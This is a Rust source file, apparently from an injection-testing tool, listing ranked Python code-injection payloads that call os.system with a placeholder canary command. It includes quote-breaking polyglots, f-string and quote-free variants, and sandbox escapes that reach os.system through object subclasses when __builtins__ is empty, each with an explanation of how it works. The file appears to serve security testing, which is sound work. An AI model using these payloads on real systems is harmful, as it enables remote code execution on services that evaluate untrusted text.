//! Payloads for text that Python evaluates.
//!
//! Each calls `os.system` with the canary as the whole command line. Measured on CPython 3.6 to
//! 3.13: together they fire in all contexts of `tests/payload_contexts/contexts.py`. `''*n+''`
//! rather than `''+str(n)+''` joins the status to the text around it, because `str` may be absent.

use super::{Effect, Payload, PayloadClass};

const fn python(id: &'static str, template: &'static str, why: &'static str) -> Payload {
    Payload::new(PayloadClass::PythonCode, id, template, Effect::Command, why)
}

/// Best first.
pub(super) const PAYLOADS: &[Payload] = &[
    // The bare expression, and out of single or double quotes, in one: in each reading the other
    // two parts are string constants. It needs no quotes of its own: `max(dict(os=0))` is 'os'.
    python(
        "python-polyglot",
        r#"__import__(max(dict(os=0))).system(max(dict({C}=0))),'"*__import__(max(dict(os=0))).system(max(dict({C}=0)))+"',"'*__import__(max(dict(os=0))).system(max(dict({C}=0)))+'""#,
        "an expression bare, in single and in double quotes; elsewhere its parts are string constants",
    ),
    // Ends a comment; inside brackets a newline is white space.
    python(
        "python-newline",
        "\n__import__('os').system('{C}')\n",
        "ends a comment; inside brackets a newline is white space",
    ),
    // `eval(text, {"__builtins__": {}})`: walks from `()` to the class `os._wrap_close`, whose
    // constructor has `os.system` among its globals. Shaped as the first, and without quotes too:
    // the words are the parameter names of a lambda.
    python(
        "python-no-builtins-polyglot",
        r#"[[c.__init__.__globals__[s](n)for(c)in().__class__.__base__.__subclasses__()if(c.__name__==w)][0]for(s,w,n)in[(lambda system,_wrap_close,{C}:0).__code__.co_varnames]][0],'"*[[c.__init__.__globals__[s](n)for(c)in().__class__.__base__.__subclasses__()if(c.__name__==w)][0]for(s,w,n)in[(lambda system,_wrap_close,{C}:0).__code__.co_varnames]][0]+"',"'*[[c.__init__.__globals__[s](n)for(c)in().__class__.__base__.__subclasses__()if(c.__name__==w)][0]for(s,w,n)in[(lambda system,_wrap_close,{C}:0).__code__.co_varnames]][0]+'""#,
        "finds os.system through the subclasses of object where __builtins__ is empty",
    ),
    // Out of either kind of triple quotes: in each reading the other part is a string constant.
    python(
        "python-triple-quotes",
        r#""""*__import__('os').system('{C}')+"""'''*__import__('os').system('{C}')+'''"#,
        "leaves either kind of triple quotes",
    ),
    // After a dot: `str.@`. `__doc__` is a name everywhere, so it also runs on its own.
    python(
        "python-attribute",
        "__doc__,__import__('os').system('{C}')",
        "__doc__ is an attribute of everything and a name everywhere",
    ),
    python("python-expression", "__import__('os').system('{C}')", "any place where an expression may stand"),
    // Text that becomes the inside of an f-string, its quotes removed or escaped.
    python(
        "python-format-field",
        "{__import__(max(dict(os=0))).system(max(dict({C}=0)))}",
        "a field of an f-string whose quotes are removed or escaped",
    ),
    python(
        "python-no-quotes",
        "__import__(max(dict(os=0))).system(max(dict({C}=0)))",
        "words without quotes are names of arguments",
    ),
    // The short form of the third, without a space.
    python(
        "python-no-builtins",
        "[c.__init__.__globals__['system']('{C}')for(c)in().__class__.__base__.__subclasses__()if(c.__name__=='_wrap_close')][0]",
        "the short form for an empty __builtins__",
    ),
    // Short, for a field with a length limit. `''*status+''` is '': the text around stays valid.
    python("python-single-quotes", "'*__import__('os').system('{C}')+'", "leaves single quotes, short"),
];

/// The form that a person understands best.
pub(super) const CANONICAL: &Payload = &PAYLOADS[5];
